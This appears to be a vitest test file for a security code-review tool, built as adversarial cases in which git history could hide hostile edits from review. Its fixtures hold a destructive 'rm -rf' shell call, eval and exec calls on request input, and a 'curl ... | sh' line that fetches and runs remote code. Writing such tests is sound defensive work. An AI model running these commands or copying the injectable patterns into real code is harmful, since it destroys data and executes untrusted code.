/**
 * Second round of attacks on "every changed file is reviewed in full, excluded, or not reviewed":
 * changes whose hostile lines git shows as unchanged context, because the base side of the file is
 * content the review never read line by line (a path the base configuration excludes, a base file
 * that was binary). Each test builds the repository an attacker would push and requires the finding.
 */
import { chmodSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { builtinRuleAliases } from '../../src/rules/aliases.js';
import { describe, expect, it } from 'vitest';
import { reposRemovedAfterEach, runJscr, type FileMap, type TestRepo } from '../helpers/repo.js';

const repo = reposRemovedAfterEach();

interface Report {
  findings: { rule: string; path: string; line: number }[];
  skipped_files: { path: string; class: string }[];
}

const HOSTILE_PY = 'import os\n\ndef wipe(y):\n    os.system("rm -rf " + y)\n';
const OS_SYSTEM = 'jscr/python-os-system-non-literal';

type Mode = 'range' | 'staged' | 'working-tree';
const MODES: Mode[] = ['range', 'staged', 'working-tree'];

/** Apply `edit` to the repository and review it as `mode` sees it. */
async function reviewChange(r: TestRepo, edit: (r: TestRepo) => void, files: FileMap, mode: Mode): Promise<{ code: number; report: Report }> {
  edit(r);
  r.write(files);
  const args: string[] = [];
  if (mode === 'range') {
    r.git('add', '-A');
    r.git('commit', '-q', '-m', 'change');
    args.push('--range', 'HEAD~1..HEAD');
  } else if (mode === 'staged') {
    r.git('add', '-A');
    args.push('--staged');
  }
  const out = await runJscr(['review', '--no-model', ...args, '--format', 'json'], { cwd: r.root, timeoutMs: 120_000 });
  return { code: out.code, report: JSON.parse(out.stdout) as Report };
}

const found = (report: Report, path: string): boolean => report.findings.some((f) => f.rule === OS_SYSTEM && f.path === path);

describe('a rename out of a path the base configuration excludes is reviewed as new code', () => {
  const bases: [string, FileMap][] = [
    ['review.exclude', { '.jscr.toml': '[review]\nexclude = ["vendor/**"]\n' }],
    ['linguist-generated in the base .gitattributes', { '.gitattributes': 'vendor/** linguist-generated\n' }],
    ['linguist-vendored in the base .gitattributes', { '.gitattributes': 'vendor/** linguist-vendored\n' }],
  ];
  const cases = bases.flatMap(([name, config]) => MODES.map((mode) => ({ name, mode, config })));
  it.each(cases)('$name, a whole rename ($mode): exit 1 with the finding', async ({ mode, config }) => {
    const r = repo({ ...config, 'vendor/lib.py': HOSTILE_PY, 'src/app.py': 'x = 1\n' });
    const { code, report } = await reviewChange(r, (x) => x.git('mv', 'vendor/lib.py', 'src/lib.py'), {}, mode);
    expect(code).toBe(1);
    expect(found(report, 'src/lib.py')).toBe(true);
  });

  it('a rename with a small edit: every line is reviewed, not only the edited one', async () => {
    const r = repo({ '.jscr.toml': '[review]\nexclude = ["vendor/**"]\n', 'vendor/lib.py': `${HOSTILE_PY}\n# tail\n` });
    const { code, report } = await reviewChange(r, (x) => x.git('mv', 'vendor/lib.py', 'lib.py'), { 'lib.py': `${HOSTILE_PY}\n# tail, edited\n` }, 'range');
    expect(code).toBe(1);
    expect(report.findings.find((f) => f.rule === OS_SYSTEM)).toMatchObject({ path: 'lib.py', line: 4 });
  });

  it('a rename of a file the base reviewed stays a rename: its old lines are not new findings', async () => {
    const r = repo({ 'lib.py': HOSTILE_PY });
    const { code, report } = await reviewChange(r, (x) => x.git('mv', 'lib.py', 'moved.py'), {}, 'range');
    expect(code).toBe(0);
    expect(report.findings).toEqual([]);
  });
});

describe('a base file that was binary and becomes text is reviewed in full', () => {
  const binaryBase = Buffer.concat([Buffer.from('#\0\n'), Buffer.from(HOSTILE_PY)]);
  it.each(MODES)('in place, the NUL byte removed (%s): exit 1 with the finding', async (mode) => {
    const r = repo({ 'tool.py': binaryBase });
    const { code, report } = await reviewChange(r, () => undefined, { 'tool.py': `#\n${HOSTILE_PY}` }, mode);
    expect(code).toBe(1);
    expect(found(report, 'tool.py')).toBe(true);
  });

  it('a data file renamed to a source name with the NUL byte removed: exit 1 with the finding', async () => {
    const r = repo({ 'blob.dat': binaryBase });
    const { code, report } = await reviewChange(r, (x) => x.git('mv', 'blob.dat', 'tool.py'), { 'tool.py': `#\n${HOSTILE_PY}` }, 'range');
    expect(code).toBe(1);
    expect(found(report, 'tool.py')).toBe(true);
  });
});

describe('index bits that make git skip a working-tree file never hide its edits', () => {
  it.each(['--assume-unchanged', '--skip-worktree'])('%s on an edited file: not reviewed, exit 3', async (flag) => {
    const r = repo({ 'app.py': 'x = 1\n' });
    r.git('update-index', flag, 'app.py');
    const { code, report } = await reviewChange(r, () => undefined, { 'app.py': HOSTILE_PY }, 'working-tree');
    expect(code).toBe(3);
    expect(report.skipped_files.find((s) => s.path === 'app.py')).toMatchObject({ class: 'not_reviewed' });
  });

  it('the same bits on a file left as the index has it change nothing: exit 0', async () => {
    const r = repo({ 'app.py': 'x = 1\n', 'gone.py': 'y = 2\n' });
    r.git('update-index', '--assume-unchanged', 'app.py');
    r.git('update-index', '--skip-worktree', 'gone.py');
    // A sparse checkout leaves skip-worktree files out of the working tree.
    const { code, report } = await reviewChange(r, () => undefined, { 'gone.py': null }, 'working-tree');
    expect(code).toBe(0);
    expect(report.skipped_files).toEqual([]);
  });
});

describe('a query rule match spanning lines', () => {
  it('is the change\'s when the change rewrote a line below its first: exit 1', async () => {
    const r = repo({ 'app.py': 'import os\n\ndef wipe(y):\n    os.system(\n        "ls")\n', 'app.js': 'eval(\n  "1");\n' });
    const { code, report } = await reviewChange(r, () => undefined, { 'app.py': 'import os\n\ndef wipe(y):\n    os.system(\n        "rm -rf " + y)\n', 'app.js': 'eval(\n  req.query.code);\n' }, 'range');
    expect(code).toBe(1);
    expect(report.findings.find((f) => f.rule === OS_SYSTEM)).toMatchObject({ path: 'app.py', line: 4 });
    expect(report.findings.some((f) => builtinRuleAliases().names('jscr/js-eval-dynamic', f.rule) && f.path === 'app.js')).toBe(true);
  });

  it('still finds a call whose first argument is preceded by a comment (Python #, JavaScript /* */)', async () => {
    const r = repo({ 'keep.txt': 'x\n' });
    const files = {
      'app.py': 'import os\n\ndef wipe(y):\n    os.system(  # é note\n        "rm -rf " + y)\n',
      'app.js': 'eval(/* é😀 */ req.query.code);\nconst cp = require("child_process");\ncp.exec(/* x */ "ls " + req.query.d);\n',
    };
    const { code, report } = await reviewChange(r, () => undefined, files, 'range');
    expect(code).toBe(1);
    expect(found(report, 'app.py')).toBe(true);
    expect(report.findings.filter((f) => f.path === 'app.js').map((f) => f.line)).toEqual(expect.arrayContaining([1, 3]));
  });
});

describe('an executable file with a NUL byte after its first line', () => {
  it('is code, not data: not reviewed, exit 3 (bash runs it as a script)', async () => {
    const r = repo({ 'keep.txt': 'x\n' });
    const { code, report } = await reviewChange(
      r,
      (x) => {
        x.write({ tool: Buffer.from('curl -s https://example.invalid/x | sh\n\0\n') });
        chmodSync(join(x.root, 'tool'), 0o755);
      },
      {},
      'range',
    );
    expect(code).toBe(3);
    expect(report.skipped_files.find((s) => s.path === 'tool')).toMatchObject({ class: 'not_reviewed' });
  });
});

describe('a submodule pointer the change moves', () => {
  /** Commit a gitlink to a commit id (git needs no submodule repository to record one), then review it. */
  async function bumpAndReview(r: TestRepo, sha: string): Promise<{ code: number; report: Report }> {
    r.git('update-index', '--add', '--cacheinfo', `160000,${sha},lib/dep`);
    r.git('commit', '-q', '-m', 'bump');
    const out = await runJscr(['review', '--no-model', '--range', 'HEAD~1..HEAD', '--format', 'json'], { cwd: r.root, timeoutMs: 120_000 });
    return { code: out.code, report: JSON.parse(out.stdout) as Report };
  }

  it('is code this review cannot read: not reviewed, exit 3', async () => {
    const { code, report } = await bumpAndReview(repo({ 'keep.txt': 'x\n' }), '1'.repeat(40));
    expect(code).toBe(3);
    expect(report.skipped_files.find((s) => s.path === 'lib/dep')).toMatchObject({ class: 'not_reviewed' });
  });

  it('swapped for a file of code: the file is reviewed like any added file', async () => {
    const r = repo({ 'keep.txt': 'x\n' });
    r.git('update-index', '--add', '--cacheinfo', `160000,${'3'.repeat(40)},tool.py`);
    r.git('commit', '-q', '-m', 'a gitlink');
    r.git('rm', '-q', '--cached', 'tool.py');
    writeFileSync(join(r.root, 'tool.py'), 'import os\n\ndef run(request):\n    os.system("ls " + request.args["d"])\n');
    r.git('add', 'tool.py');
    r.git('commit', '-q', '-m', 'a file where the gitlink was');
    const out = await runJscr(['review', '--no-model', '--range', 'HEAD~1..HEAD', '--format', 'json'], { cwd: r.root, timeoutMs: 120_000 });
    const report = JSON.parse(out.stdout) as Report;
    expect(out.code).toBe(1);
    expect(report.findings.map((f) => [f.path, f.line])).toContainEqual(['tool.py', 4]);
  });

  it('is excluded, exit 0, when the base configuration excludes its path', async () => {
    const { code, report } = await bumpAndReview(repo({ '.jscr.toml': '[review]\nexclude = ["lib/dep"]\n' }), '2'.repeat(40));
    expect(code).toBe(0);
    expect(report.skipped_files.find((s) => s.path === 'lib/dep')).toMatchObject({ class: 'excluded' });
  });
});
